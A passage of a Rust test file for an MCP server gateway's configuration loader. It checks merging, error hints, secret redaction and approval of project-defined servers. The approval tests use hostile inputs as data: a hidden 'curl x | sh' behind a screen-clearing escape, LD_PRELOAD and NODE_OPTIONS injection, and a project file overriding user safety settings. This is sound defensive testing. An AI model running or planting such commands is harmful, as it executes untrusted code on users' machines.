//! The whole way from files to servers, in temporary folders.

use std::{fs, path::Path, time::Duration};

use super::{renamed::RENAMED, *};
use crate::domain::{
    ask::AskPolicy,
    secret::Secret,
    server::{EraChoice, ServerSpec, Timeouts, Transport},
};

/// A home with a project below it, and nothing of the machine's own.
pub(super) struct Place {
    dir: tempfile::TempDir,
}

impl Place {
    pub fn new() -> Place {
        let place = Place { dir: tempfile::tempdir().unwrap() };
        fs::create_dir_all(place.path("project/.git")).unwrap();
        fs::create_dir_all(place.path("project/sub")).unwrap();
        place
    }

    pub fn path(&self, path: &str) -> std::path::PathBuf {
        self.dir.path().canonicalize().unwrap().join(path)
    }

    pub fn write(&self, path: &str, text: &str) {
        let path = self.path(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    pub fn options(&self) -> LoadOptions {
        LoadOptions {
            cwd: self.path("project/sub"),
            home: Some(self.path("")),
            user_dir: Some(self.path("conf")),
            state_dir: Some(self.path("state")),
            env: Env::from_iter([("TOKEN", "s3cret-token"), ("HOST", "h.example")]),
            ..LoadOptions::default()
        }
    }
}

fn ids(servers: &[ServerSpec]) -> Vec<&str> {
    servers.iter().map(|s| s.id.as_str()).collect()
}

fn user(text: &str) -> Result<Loaded, Vec<ConfigError>> {
    let place = Place::new();
    place.write("conf/config.toml", text);
    load(&place.options())
}

/// Returns the errors of a configuration: of the file, or of its servers.
pub(super) fn errors_of(text: &str) -> Vec<ConfigError> {
    match user(text) {
        Ok(loaded) => loaded.problems.into_iter().filter(|problem| problem.unusable).collect(),
        Err(errors) => errors,
    }
}

/// Returns the ids of the servers that can be started.
fn usable(servers: &[ServerSpec]) -> Vec<&str> {
    servers.iter().filter(|spec| spec.config_faults.is_empty()).map(|spec| spec.id.as_str()).collect()
}

const EXAMPLE: &str = include_str!("../../config.example.toml");

/// The example with its examples switched on.
fn example_switched_on() -> String {
    let on = |line: &str| match line.strip_prefix('#') {
        Some(code) if code.starts_with(|c: char| c.is_ascii_lowercase() || "[]".contains(c)) || code.starts_with("  {") => code.to_owned(),
        _ => line.to_owned(),
    };
    // These are there twice, once as the default.
    let lines = EXAMPLE.lines().filter(|l| !["#include", "#url = \"rediss", "#workflows"].iter().any(|twice| l.starts_with(twice)));
    lines.map(on).collect::<Vec<_>>().join("\n")
}

#[test]
fn the_example_is_the_defaults() {
    let (example, empty) = (user(EXAMPLE).unwrap(), user("").unwrap());
    assert_eq!(example.settings, empty.settings);
    assert_eq!(example.settings, Settings::default());
    assert_eq!((example.servers.len(), example.problems.len()), (0, 0));
    assert_eq!(example.rules, crate::domain::policy::Rules::default());
    let server = "\n[servers.x]\ncommand = \"x\"\n";
    let plain = |loaded: Loaded| ServerSpec { origin: Default::default(), ..loaded.servers[0].clone() };
    let with_example = plain(user(&format!("{EXAMPLE}{server}")).unwrap());
    assert_eq!(with_example, plain(user(server).unwrap()));
    assert_eq!(with_example.policy, crate::domain::policy::Policy::default());
}

#[test]
fn the_servers_of_the_example_are_valid() {
    let place = Place::new();
    place.write("conf/config.toml", &example_switched_on());
    let mut options = place.options();
    options.env = Env::from_iter([("HOME", "/home/me"), ("SEARCH_TOKEN", "abc"), ("TRACKER_SECRET", "def")]);
    let loaded = load(&options).unwrap();
    assert_eq!(ids(&loaded.servers), ["files", "search", "tracker", "local"]);
    assert_eq!(loaded.problems, []);
    assert!(matches!(loaded.servers[0].elicitation, AskPolicy::Fixed(_)));
    assert_eq!(loaded.servers[0].roots[0].uri, format!("file://{}", place.path("work").display()));
    assert_eq!(loaded.servers[3].timeouts.connect, Duration::from_secs(2));
    assert_eq!((loaded.servers[0].policy.retry.attempts, loaded.servers[0].policy.concurrency.in_flight), (2, 4));
    let rules = &loaded.rules;
    assert_eq!((rules.tools[0].fallback.len(), rules.routing.groups[0].members.len(), rules.routing.routes.len()), (4, 2, 1));
}

#[test]
fn the_example_has_every_key() {
    let probe = "zzzzzzzz = 1\n[history]\nzzzzzzzz = 1\n[retention]\nzzzzzzzz = 1\n[console]\nzzzzzzzz = 1\n[defaults]\nzzzzzzzz = 1\n[defaults.timeouts]\nzzzzzzzz = 1\n\
                 [defaults.limits]\nzzzzzzzz = 1\n[defaults.sessions]\nzzzzzzzz = 1\n[servers.x]\ncommand = \"x\"\nzzzzzzzz = 1\n\
                 [servers.y]\nurl = \"https://y.example\"\n[servers.y.auth]\nzzzzzzzz = 1\n\
                 [defaults.retry]\nzzzzzzzz = 1\n[defaults.breaker]\nzzzzzzzz = 1\n[defaults.breaker.record]\nzzzzzzzz = 1\n\
                 [defaults.concurrency]
zzzzzzzz = 1
[defaults.rate_limit]
zzzzzzzz = 1
[defaults.hedge]\nzzzzzzzz = 1\n[defaults.cache]\nzzzzzzzz = 1\n[cache]\nzzzzzzzz = 1\n[redis]\nzzzzzzzz = 1\n[store]\nzzzzzzzz = 1\n[client]\nzzzzzzzz = 1\n[gateway]\nzzzzzzzz = 1\n[gateway.profiles.p]\nzzzzzzzz = 1\n\
                 [[tool]]\nmatch = \"x\"\nzzzzzzzz = 1\nbreaker = { zzzzzzzz = 1 }\nfallback = [{ stale = true, zzzzzzzz = 1 }]\n\
                 [groups.g]\nmembers = [{ server = \"x\", zzzzzzzz = 1 }]\nzzzzzzzz = 1\n[[route]]\nmatch = \"x\"\nto = \"x\"\nzzzzzzzz = 1\n";
    let errors = errors_of(probe);
    assert_eq!(errors.len(), 29, "{errors:?}");
    for error in errors {
        let hint = error.hint.unwrap();
        let keys = hint.strip_prefix("known keys: ").unwrap();
        for key in keys.split(", ") {
            let there = example_switched_on().lines().any(|l| {
                l.starts_with(&format!("{key} ="))
                    || (l.starts_with('[') && l.contains(&format!("{key}.")) || l.contains(&format!(".{key}]")))
                    || l == format!("[{key}]")
                    || l == format!("[[{key}]]")
                    || l.contains(&format!("{{ {key} = "))
                    || l.contains(&format!(", {key} = "))
            });
            assert!(there, "{key} of {:?} is missing", error.key);
        }
    }
}

#[test]
fn an_old_key_is_refused_with_the_new_name() {
    for (table, old, new) in RENAMED {
        let names: Vec<String> = new.iter().map(|key| format!("`{key}`").replace("`redis.", "`")).collect();
        let there = if table == "cache" { " in `[redis]`" } else { "" };
        let hint = format!("did you mean {}{there}?", names.join(" or "));
        let mut texts = vec![(if table.is_empty() { format!("{old} = 1") } else { format!("[{table}]\n{old} = 1") }, table.to_owned())];
        if let Some(inner) = table.strip_prefix("defaults").map(|inner| inner.trim_start_matches('.')) {
            let dotted = if inner.is_empty() { old.to_owned() } else { format!("{inner}.{old}") };
            texts.push((format!("[servers.x]\ncommand = \"x\"\n{dotted} = 1"), inner.to_owned()));
            texts.push((format!("[[tool]]\nmatch = \"*\"\n{dotted} = 1"), format!("tool.{inner}")));
        }
        for (text, prefix) in texts {
            let errors = errors_of(&text);
            let key = format!("{prefix}.{old}").replace("..", ".");
            let (line, key) = (text.lines().count() as u32, key.trim_start_matches('.'));
            let error = errors.iter().find(|error| error.key.as_deref() == Some(key)).unwrap_or_else(|| panic!("{text}: {errors:?}"));
            assert_eq!((error.line, error.message.as_str()), (Some(line), "unknown key"), "{text}");
            assert_eq!(error.hint.as_deref(), Some(hint.as_str()), "{text}");
            assert!(error.file.as_ref().is_some_and(|file| file.ends_with("config.toml")), "{text}");
        }
    }
}

#[test]
fn a_server_table_becomes_a_specification() {
    let text = r#"
[defaults.timeouts]
call = "90s"
connect = "9s"
[servers.a]
command = "~/bin/run"
args = ["--token=${TOKEN}", "$$5", "plain"]
env = { Z = "1", API_KEY = "${TOKEN}", N = 3 }
cwd = "work"
namespace = ""
era = "modern"
trusted = true
elicitation = '{"ok": true}'
[servers.a.timeouts]
connect = "500ms"
[servers.b]
url = "https://${HOST}/mcp?key=${TOKEN}"
headers = { Authorization = "Bearer ${env:TOKEN}" }
socket = "/run/b.sock"
disabled = true
"#;
    let place = Place::new();
    place.write("conf/config.toml", text);
    let loaded = load(&place.options()).unwrap();
    let [a, b] = loaded.servers.as_slice() else { panic!("{loaded:?}") };
    let Transport::Stdio { command, args, env, cwd, .. } = &a.launch else { panic!("stdio") };
    assert_eq!(command, &place.path("bin/run").display().to_string());
    assert_eq!(cwd, &Some(place.path("conf/work")));
    assert_eq!(args.iter().map(Secret::expose).collect::<Vec<_>>(), ["--token=s3cret-token", "$5", "plain"]);
    assert_eq!(args[0].written(), "--token=${TOKEN}");
    assert_eq!(
        env.iter().map(|(n, v)| (n.as_str(), v.expose())).collect::<Vec<_>>(),
        [("Z", "1"), ("API_KEY", "s3cret-token"), ("N", "3")]
    );
    assert_eq!(a.timeouts, Timeouts { connect: Duration::from_millis(500), call: Duration::from_secs(90), ..Timeouts::default() });
    assert_eq!((a.era, a.trusted, a.namespace()), (EraChoice::Modern, true, ""));
    assert_eq!(a.elicitation, AskPolicy::Fixed(r#"{"ok":true}"#.into()));
    assert_eq!((a.origin.line, a.origin.file.as_deref()), (Some(5), Some(place.path("conf/config.toml").as_path())));
    let Transport::Http { url, headers, socket } = &b.launch else { panic!("http") };
    assert_eq!((url.as_str(), socket.as_deref()), ("https://h.example/mcp?key=s3cret-token", Some(Path::new("/run/b.sock"))));
    assert_eq!(headers[0].1.expose(), "Bearer s3cret-token");
    assert_eq!(b.timeouts.connect, Duration::from_secs(9));
    assert!(b.disabled && b.secrets().iter().any(|s| s.expose() == "s3cret-token"));
    let shown = format!("{:?} {:?}", b.launch.summary(), a.launch.summary());
    assert!(!shown.contains("s3cret"), "{shown}");
}

#[test]
fn errors_have_a_position_and_a_hint() {
    for (text, line, key, words) in [
        ("separater = \"_\"", 1, "separater", "did you mean `separator`?"),
        ("[servers.a]\ncomand = \"x\"", 2, "comand", "did you mean `command`?"),
        ("[servers.a]\nowner = \"me\"", 1, "", "neither `command` nor `url`"),
        ("[servers.a]\ncommand = \"x\"\nurl = \"http://x\"", 3, "url", "either"),
        ("[servers.a]\nurl = \"http://x\"\nargs = []", 3, "args", "use `args` with `command`"),
        ("[servers.a]\nurl = \"htp://x\"", 2, "url", "http://"),
        ("[servers.a]\ncommand = 5", 2, "command", "an integer"),
        ("[servers.a]\ncommand = \"x\"\nargs = [\n\"a\",\n[1]]", 5, "args", "an array"),
        ("[servers.a]\ncommand = \"x\"\nera = \"legcy\"", 3, "era", "did you mean `legacy`?"),
        ("[servers.a]\ncommand = \"x\"\nelicitation = \"yes\"", 3, "elicitation", "\"decline\""),
        ("[servers.a]\ncommand = \"x\"\nelicitation = '{\"a\"'", 3, "elicitation", "not JSON"),
        ("[servers.a]\ncommand = \"x\"\n[servers.a.timeouts]\ncall = 30", 4, "timeouts.call", "\"30s\""),
        ("[servers.a]\ncommand = \"x\"\n[servers.a.timeouts]\ncall = \"0s\"", 4, "timeouts.call", "more than zero"),
        ("[servers.a]\ncommand = \"x\"\n[servers.a.timeouts]\ncall = \"9999h\"", 4, "timeouts.call", "30 days"),
        ("[servers.a]\ncommand = \"x\"\nlimits = { pages = 0 }", 3, "limits.pages", "at least 1"),
        ("[servers.a]\ncommand = \"x\"\nsessions = { max = 1001 }", 3, "sessions.max", "should be from 0 to 1000"),
        ("[servers.a]\ncommand = \"x\"\nnamespace = \"a b\"", 3, "namespace", "A-Z"),
        ("[servers.a]\ncommand = \"x\"\nenv = { \"A=B\" = \"x\" }", 2, "env", "invalid name"),
        ("[servers.a]\nurl = \"http://x\"\nheaders = { X = \"a\\nb\" }", 2, "headers", "control character"),
        ("[servers.\"\"]\ncommand = \"x\"", 1, "", "name is empty"),
        ("servers = 5", 1, "servers", "a table"),
        ("[retention]\ncalls = -1", 2, "retention.calls", "at least 1"),
        ("[console]\ntheme = \"mon\"", 2, "console.theme", "did you mean `mono`?"),
        ("include = [\"${NONE}\"]", 1, "include", "`NONE` is not set"),
        ("a = \n", 1, "", "TOML"),
    ] {
        let errors = errors_of(text);
        assert_eq!(errors.len(), 1, "{text}: {errors:?}");
        let error = &errors[0];
        assert_eq!((error.line, error.key.as_deref().unwrap_or_default()), (Some(line), key), "{text}: {error}");
        assert!(error.to_string().contains(words), "{text}: {error}");
        assert!(error.file.is_some(), "{text}");
    }
    let several = errors_of("x = 1\n[servers.a]\ncomand = \"x\"\n[servers.b]\nurl = 3");
    assert!(several.len() >= 3, "all errors are reported together: {several:?}");
}

#[test]
fn a_misspelt_key_costs_its_entry_and_not_the_file() {
    let text = "[servers.good]\ncommand = \"x\"\n[servers.typo]\ncomand = \"y\"\nevn = { A = \"1\" }\n[servers.near]\n\
                command = \"z\"\nargz = []\n[servers.text]\ncommand = 5\n[servers.off]\ndisabled = true\n";
    let loaded = user(text).unwrap();
    assert_eq!(ids(&loaded.servers), ["good", "typo", "near", "text", "off"]);
    assert_eq!(usable(&loaded.servers), ["good"]);
    let [good, typo, near, ..] = &loaded.servers[..] else { panic!("{:?}", loaded.servers) };
    assert_eq!(good.config_failure(), None);
    let why = typo.config_failure().unwrap();
    assert_eq!(why.summary, "`comand`: unknown key");
    assert!(why.place.as_ref().is_some_and(|place| place.ends_with("config.toml:4:1")), "{why:?}");
    assert!(why.causes.len() == 1 && why.causes[0].ends_with("config.toml:5:1: `evn`: unknown key"), "{why:?}");
    assert_eq!(why.hints, ["did you mean `command`?", "did you mean `env`?"]);
    assert_eq!((typo.launch.is_known(), near.launch.summary().as_str()), (false, "z"), "the transport as far as it can be read");
    assert!(loaded.servers[4].disabled);
    // Every fault is a problem too, so that it reaches the log and the console.
    assert_eq!(loaded.problems.iter().filter(|problem| problem.unusable).count(), 5, "{:?}", loaded.problems);
}

#[test]
fn the_unusable_entry_of_a_project_needs_no_approval_and_takes_no_name() {
    let place = Place::new();
    place.write("conf/config.toml", "[servers.mine]\ncomand = \"x\"");
    place.write("project/switchboard.toml", "[servers.mine]\ncommand = \"evil\"\n[servers.theirs]\ncomand = \"y\"");
    let loaded = load(&place.options()).unwrap();
    assert_eq!((ids(&loaded.servers), usable(&loaded.servers)), (vec!["mine", "theirs"], vec![]));
    assert!(loaded.pending.is_none(), "nothing would be started");
    assert!(loaded.servers[0].origin.file.as_ref().unwrap().ends_with("conf/config.toml"));
    place.write("project/switchboard.toml", "[servers.ok]\ncommand = \"ok\"\n[servers.theirs]\ncomand = \"y\"");
    let pending = load(&place.options()).unwrap().pending.unwrap();
    assert_eq!(ids(&pending.servers), ["ok"]);
    approve(&pending, &place.path("state")).unwrap();
    let loaded = load(&place.options()).unwrap();
    assert_eq!((ids(&loaded.servers), usable(&loaded.servers)), (vec!["mine", "ok", "theirs"], vec!["ok"]));
}

#[test]
fn an_unset_variable_costs_its_server_only_and_is_named() {
    let loaded = user("[servers.a]\ncommand = \"x\"\nargs = [\n  \"a\",\n  \"${NO_TOKEN}\",\n]\n[servers.b]\ncommand = \"y\"").unwrap();
    assert_eq!((ids(&loaded.servers), usable(&loaded.servers)), (vec!["a", "b"], vec!["b"]));
    let problem = &loaded.problems[0];
    assert_eq!((problem.server.as_deref(), problem.key.as_deref(), problem.line), (Some("a"), Some("args"), Some(5)));
    assert!(problem.to_string().contains("`NO_TOKEN` is not set"), "{problem}");
}

#[test]
fn errors_never_hold_configured_values() {
    let text =
        "[servers.a]\nurl = \"s3cret://${TOKEN}\"\nheaders = { \"a b\" = \"s3cret\", X = \"s3cret\\u0001\" }\nera = \"s3cret\"\nsocket = 5";
    let loaded = user(text).unwrap();
    for error in &loaded.problems {
        assert!(!format!("{error} {error:?}").contains("s3cret"), "{error}");
    }
    let [spec] = &loaded.servers[..] else { panic!("{:?}", loaded.servers) };
    let report = format!("{:?}", spec.config_failure().unwrap().report());
    assert!(loaded.problems.len() > 2 && !report.contains("s3cret-token"), "{report}");
}

#[test]
fn layers_merge_servers_by_name_and_settings_by_key() {
    let place = Place::new();
    place.write(
        "conf/config.toml",
        "separator = \"-\"\n[retention]\ncalls = 5\nlogs = 6\n[defaults.timeouts]\ncall = \"7s\"\nlist = \"8s\"\n\
         [servers.one]\ncommand = \"user-one\"\nowner = \"me\"\n[servers.two]\ncommand = \"two\"",
    );
    place.write(
        "project/switchboard.toml",
        "separator = \".\"\n[retention]\ncalls = 50\n[defaults.timeouts]\ncall = \"70s\"\n[servers.one]\ncommand = \"project-one\"\n[servers.three]\ncommand = \"three\"",
    );
    let mut options = place.options();
    let held = load(&options).unwrap();
    assert_eq!(ids(&held.servers), ["one", "two"]);
    assert_eq!((held.servers[0].owner.as_deref(), held.settings.retention.calls), (Some("me"), 5));
    let pending = held.pending.unwrap();
    assert_eq!((pending.path.clone(), ids(&pending.servers)), (place.path("project"), vec!["three"]));
    assert!(held.problems.iter().any(|problem| problem.server.as_deref() == Some("one") && problem.message.contains("ignored")));

    options.trust_hash = Some(pending.hash);
    let extra = server_from_command(&["three".to_owned()]);
    options.extra = vec![extra.clone(), server_from_command(&["git".to_owned()]), server_from_command(&["git".to_owned()])];
    let merged = load(&options).unwrap();
    assert_eq!(ids(&merged.servers), ["one", "two", "three", "git", "git-2"]);
    assert_eq!((merged.pending, merged.servers[0].owner.as_deref()), (None, Some("me")), "the user's name wins");
    let timeouts = Timeouts { call: Duration::from_secs(7), list: Duration::from_secs(8), ..Timeouts::default() };
    assert_eq!(merged.servers[2], ServerSpec { timeouts, ..extra }, "the user's defaults hold for servers of the command line");
    assert_eq!(
        (merged.settings.separator.as_str(), merged.settings.retention.calls, merged.settings.retention.logs),
        ("-", 5, 6),
        "a project sets nothing for its user"
    );
    let calls = |n: usize| (merged.servers[n].timeouts.call.as_secs(), merged.servers[n].timeouts.list.as_secs());
    assert_eq!((calls(0), calls(1)), ((7, 8), (7, 8)), "a project's defaults leave the user's servers alone");

    options.no_project = true;
    assert_eq!(load(&options).unwrap().pending, None);
    options.config_files = vec!["../other.toml".into()];
    place.write("project/other.toml", "[servers.only]\ncommand = \"x\"");
    options.extra.clear();
    assert_eq!(ids(&load(&options).unwrap().servers), ["only"]);
    options.config_files = vec!["none.toml".into()];
    assert!(load(&options).unwrap_err()[0].to_string().contains("cannot be read"));
}

#[test]
fn includes_are_below_the_file_and_one_bad_server_costs_only_itself() {
    let place = Place::new();
    place.write(
        "conf/config.toml",
        "include = [\"a/one.toml\", \"~/two.json\", \"none.json\", \"a/one.toml\"]\n[servers.x]\ncommand = \"own\"",
    );
    place.write("conf/a/one.toml", "include = [\"../config.toml\", \"deep.toml\"]\n[servers.x]\ncommand = \"one\"\n[servers.bad]\ncomand = \"\"\n[servers.y]\ncommand = \"one\"");
    place.write("conf/a/deep.toml", "[servers.deep]\ncommand = \"deep\"");
    place.write(
        "two.json",
        r#"{"mcpServers": {"y": {"command": "two"}, "worse": {"type": "ws", "url": "ws://x/ws"}, "z": {"command": "z"}}}"#,
    );
    let loaded = load(&place.options()).unwrap();
    assert_eq!(ids(&loaded.servers), ["x", "bad", "y", "deep", "worse", "z"]);
    assert_eq!(usable(&loaded.servers), ["x", "y", "deep", "z"]);
    let commands: Vec<String> = loaded.servers.iter().map(|s| s.launch.summary()).collect();
    assert_eq!(commands, ["own", "-", "two", "deep", "ws://x/ws", "z"]);
    let named: Vec<_> = loaded.problems.iter().map(|p| p.server.as_deref()).collect();
    assert_eq!(named, [Some("bad"), Some("worse"), None], "{:?}", loaded.problems);
    for file in ["conf/config.toml", "conf/a/one.toml", "conf/a/deep.toml", "two.json", "conf/none.json", "project/sub/switchboard.toml"] {
        assert!(loaded.files.contains(&place.path(file)), "{file}");
    }
    place.write("two.json", "{\"mcpServers\": {\n");
    assert_eq!(load(&place.options()).unwrap_err()[0].file, Some(place.path("two.json")));
}

#[test]
fn too_many_includes_are_refused() {
    let place = Place::new();
    let all: Vec<String> = (0..100).map(|n| format!("\"f{n}.toml\"")).collect();
    place.write("conf/config.toml", &format!("include = [{}]", all.join(",")));
    (0..100).for_each(|n| place.write(&format!("conf/f{n}.toml"), ""));
    assert!(load(&place.options()).unwrap_err()[0].message.contains("more than 64"));
}

#[test]
fn a_project_is_looked_for_up_to_the_repository_or_home_and_no_further() {
    for (at, cwd, found) in [
        ("project/switchboard.toml", "project/sub", true),
        ("project/sub/.switchboard.toml", "project/sub", true),
        ("project/.switchboard/config.toml", "project/sub", true),
        ("switchboard.toml", "project/sub", false),
        ("loose/switchboard.toml", "loose/a/b", true),
        ("switchboard.toml", "loose/a/b", false),
    ] {
        let place = Place::new();
        fs::create_dir_all(place.path("loose/a/b")).unwrap();
        place.write(at, "[servers.p]\ncommand = \"./p\"");
        let options = LoadOptions { cwd: place.path(cwd), ..place.options() };
        let pending = load(&options).unwrap().pending;
        assert_eq!(pending.is_some(), found, "{at} from {cwd}");
        if let Some(pending) = pending {
            let Transport::Stdio { cwd, .. } = &pending.servers[0].launch else { panic!("stdio") };
            assert_eq!(cwd.as_ref(), Some(&pending.path), "programs of a project start in its folder");
        }
    }
    let place = Place::new();
    fs::create_dir_all(place.path("a/b")).unwrap();
    place.write("a/switchboard.toml", "[servers.p]\ncommand = \"p\"");
    let outside = LoadOptions { cwd: place.path("a/b"), home: Some("/nonexistent".into()), ..place.options() };
    assert_eq!(load(&outside).unwrap().pending, None);
    place.write("a/.switchboard.toml", "");
    let inside = LoadOptions { cwd: place.path("a"), ..place.options() };
    assert!(load(&inside).unwrap().problems[0].message.contains("also exists"));
}

#[test]
fn an_approval_covers_exactly_the_approved_content() {
    let place = Place::new();
    let text = "[servers.p]\ncommand = \"run\"\nargs = [\"--token=${TOKEN}\", \"${UNSET}\"]\n";
    place.write("project/switchboard.toml", text);
    let options = place.options();
    let pending = load(&options).unwrap().pending.unwrap();
    assert_eq!(pending.lines[0], "p: run '--token=${TOKEN}' '${UNSET}'");
    approve(&pending, &place.path("state")).unwrap();
    approve(&PendingApproval { path: "/other".into(), ..pending.clone() }, &place.path("state")).unwrap();

    let mut rotated = options.clone();
    rotated.env = Env::from_iter([("TOKEN", "another-token"), ("UNSET", "now set")]);
    let loaded = load(&rotated).unwrap();
    assert_eq!((ids(&loaded.servers), loaded.pending), (vec!["p"], None));
    assert_eq!(load(&options).unwrap().pending, None);

    for change in [
        text.replace("run", "runs"),
        text.replace("--token", "--tokem"),
        text.replace("${UNSET}", "$${UNSET}"),
        text.replace("servers.p", "servers.q"),
        format!("{text}trusted = true"),
        format!("{text}inherit_env = true"),
        format!("{text}cwd = \"sub\""),
        format!("{text}env = {{ LD_PRELOAD = \"./x.so\" }}"),
        format!("{text}sampling = {{ role = \"assistant\" }}"),
        format!("{text}roots = [\"./data\"]"),
        format!("{text}[servers.more]\nurl = \"http://x/${{TOKEN}}\""),
        format!("include = [\"more.json\"]\n{text}"),
    ] {
        place.write("project/more.json", r#"{"mcpServers": {"m": {"command": "m"}}}"#);
        place.write("project/switchboard.toml", &change);
        let loaded = load(&rotated).unwrap();
        assert!(loaded.pending.is_some() && loaded.servers.is_empty(), "{change}");
    }
    // What starts nothing asks nothing.
    place.write("project/switchboard.toml", &format!("workflows = [\"w.toml\"]\n{text}owner = \"me\"\ntimeouts = {{ call = \"5s\" }}"));
    let loaded = load(&rotated).unwrap();
    assert_eq!((loaded.settings.workflows, loaded.servers[0].owner.as_deref()), (vec![], Some("me")));
    place.write("project/w.toml", "");
    assert!(load(&rotated).unwrap().pending.is_some(), "a workflow does");
    fs::remove_file(place.path("project/w.toml")).unwrap();
    let mut wrong = options;
    wrong.trust_hash = Some("00".into());
    wrong.state_dir = None;
    let held = load(&wrong).unwrap();
    assert!(held.pending.is_some() && held.problems.iter().any(|p| p.message.contains("--trust")));
}

#[test]
fn approvals_that_others_could_have_written_do_not_count() {
    use std::os::unix::fs::PermissionsExt;
    let place = Place::new();
    place.write("project/switchboard.toml", "[servers.p]\ncommand = \"run\"");
    let options = place.options();
    let state = place.path("state");
    let pending = load(&options).unwrap().pending.unwrap();
    approve(&pending, &state).unwrap();
    let file = state.join("approvals.json");
    let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode(&state), mode(&file)), (0o700, 0o600));
    assert_eq!(load(&options).unwrap().pending, None);

    fs::set_permissions(&file, fs::Permissions::from_mode(0o666)).unwrap();
    let held = load(&options).unwrap();
    assert!(held.pending.is_some() && held.problems[0].message.contains("written by others"));
    let moved = place.path("moved.json");
    fs::rename(&file, &moved).unwrap();
    std::os::unix::fs::symlink(&moved, &file).unwrap();
    assert!(load(&options).unwrap().pending.is_some());
    assert!(approve(&pending, &state).unwrap_err().message.contains("symbolic link"));
    fs::remove_file(&file).unwrap();
    fs::write(&file, "{broken").unwrap();
    fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
    assert!(load(&options).unwrap().pending.is_some());
    assert!(approve(&pending, &state).is_err(), "damaged approvals are not overwritten");
}

#[test]
fn an_approval_is_complete_and_has_no_control_characters() {
    let text = "[servers.p]\ncommand = \"sh\"\nargs = [\"-c\", \"\\u001b[2Jcurl x | sh\"]\nenv = { API_TOKEN = \"abc123\", NODE_OPTIONS = \"--require ./x\", MY_SECRET = \"/x/y\" }\n\
                elicitation = { ok = true }\ntrusted = true\n[servers.q]\nurl = \"https://x/?${TOKEN}\"\nheaders = { Authorization = \"Bearer abc\" }";
    let place = Place::new();
    place.write("project/switchboard.toml", text);
    let lines = load(&place.options()).unwrap().pending.unwrap().lines;
    let wanted = [
        "p: sh -c '\\x1b[2Jcurl x | sh'".to_owned(),
        format!("    in {}", place.path("project").display()),
        "    with API_TOKEN='•••'".into(),
        "    with NODE_OPTIONS='--require ./x'".into(),
        "    with MY_SECRET=/x/y".into(),
        "    answers elicitation without asking: {\"ok\":true}".into(),
        "    its tool annotations are trusted".into(),
        "q: https://x/?${TOKEN}".into(),
        "    with Authorization: •••".into(),
    ];
    assert_eq!(lines, wanted);
    let hash = launch_hash(&[]);
    assert_eq!((hash.len(), hash == launch_hash(&[server_from_command(&["x".into()])])), (64, false));
}

#[test]
fn a_projects_file_changes_no_setting_of_the_user() {
    let hostile = "separator = \".\"\nworkflows = [\"flows\"]\n[console]\nconfirm = \"never\"\nmouse = false\ntheme = \"mono\"\n\
                   [history]\ncalls = 0\n[journal]\nflush = true\n[retention]\ncalls = 1\n[keys.confirm]\n\"n\" = \"yes\"\n";
    for (users, include) in [("", false), ("[console]\nconfirm = \"destructive\"\n[history]\ncalls = 7\n", true)] {
        let place = Place::new();
        place.write("conf/config.toml", users);
        let before = load(&place.options()).unwrap().settings;
        if include {
            place.write("project/more.toml", hostile);
            place.write("project/switchboard.toml", "include = [\"more.toml\"]");
        } else {
            place.write("project/switchboard.toml", hostile);
        }
        let loaded = load(&place.options()).unwrap();
        assert_eq!(loaded.settings, before, "nothing needs approval here, so nothing is taken");
        let keys: Vec<&str> = loaded.problems.iter().filter_map(|p| p.key.as_deref()).collect();
        assert_eq!(keys, ["separator", "retention", "history", "journal", "console", "keys"]);
        let settings = loaded.problems.iter().filter(|p| p.key.is_some());
        assert!(settings.into_iter().all(|p| p.line.is_some() && p.file.is_some() && p.hint.is_some()), "{:?}", loaded.problems);
    }
}

#[test]
fn certificates_to_trust_are_part_of_the_approval() {
    let project = |settings: &str| {
        let place = Place::new();
        place.write("project/switchboard.toml", &format!("[servers.p]\nurl = \"https://x/mcp\"\n{settings}\n"));
        load(&place.options()).unwrap().pending.unwrap()
    };
    let (plain, trusting, insecure) = (project(""), project("ca = \"./ca.pem\""), project("insecure = true"));
    assert!(trusting.lines.contains(&"    trusting the certificates in ./ca.pem".to_owned()), "{:?}", trusting.lines);
    assert!(insecure.lines.contains(&"    without checking its certificate (insecure)".to_owned()), "{:?}", insecure.lines);
    assert_eq!(trusting.hash, project("ca = \"./ca.pem\"").hash, "wherever the project was checked out");
    assert_eq!(plain.hash, project("insecure = false").hash);
    let mut hashes = [plain.hash, trusting.hash, insecure.hash, project("ca = \"/ca.pem\"").hash].to_vec();
    hashes.sort();
    hashes.dedup();
    assert_eq!(hashes.len(), 4);
    let server = &user("[servers.x]\nurl = \"https://x/mcp\"\nca = \"certs/${HOST}.pem\"").unwrap().servers[0];
    assert!(server.tls.ca.as_ref().is_some_and(|ca| ca.ends_with("conf/certs/h.example.pem")), "relative to the file: {:?}", server.tls);
}

#[test]
fn roots_are_part_of_the_approval() {
    let project = |roots: &str| {
        let place = Place::new();
        place.write("project/switchboard.toml", &format!("[servers.p]\ncommand = \"run\"\nroots = [{roots}]\n"));
        load(&place.options()).unwrap().pending.unwrap()
    };
    let small = project("\"./data\"");
    assert_eq!(small.hash, project("\"./data\"").hash, "wherever the project was checked out");
    assert!(small.lines.contains(&"    gets the root ./data".to_owned()), "{:?}", small.lines);
    let all = project("\"~\"");
    assert_eq!(all.lines.last().unwrap(), "    gets the root '~'");
    let others = ["\"~\"", "\"/data\"", "\"${HOST}\"", "\"$${HOST}\"", "\"./data\", \"/\"", "{ uri = \"./data\", name = \"x\" }", ""];
    let mut hashes: Vec<String> = others.iter().map(|roots| project(roots).hash).chain([small.hash]).collect();
    hashes.sort();
    hashes.dedup();
    assert_eq!(hashes.len(), others.len() + 1);
}

#[test]
fn a_projects_tools_never_have_the_names_of_the_users() {
    for (namespace, free) in [("other", true), ("my", false), ("my_git", false), ("my_git_x", false), ("my-git", true), ("", false)] {
        let place = Place::new();
        place.write("conf/config.toml", "[servers.mine]\ncommand = \"x\"\nnamespace = \"my_git\"\n");
        place.write(
            "project/switchboard.toml",
            &format!(
                "[servers.p]\ncommand = \"p\"\nnamespace = \"{namespace}\"\n[servers.q]\ncommand = \"q\"\n\
                 [groups.g]\nmembers = [\"q\"]\nnamespace = \"{namespace}\"\n"
            ),
        );
        let mut options = place.options();
        let pending = load(&options).unwrap().pending.unwrap();
        options.trust_hash = Some(pending.hash.clone());
        let loaded = load(&options).unwrap();
        assert_eq!((ids(&pending.servers).contains(&"p"), loaded.rules.routing.groups.len() == 1), (free, free), "{namespace}");
